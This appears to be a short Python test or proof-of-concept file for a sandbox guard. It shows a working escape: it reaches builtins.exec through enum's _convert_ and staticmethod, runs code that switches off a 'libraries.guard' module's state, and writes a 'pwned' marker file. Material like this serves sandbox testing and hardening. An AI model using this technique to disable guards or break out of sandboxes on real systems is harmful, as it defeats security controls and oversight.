"""file: a static method may be called by itself."""

import enum

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_static", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
x = staticmethod(getattr(Found, "exec").value)(CODE)
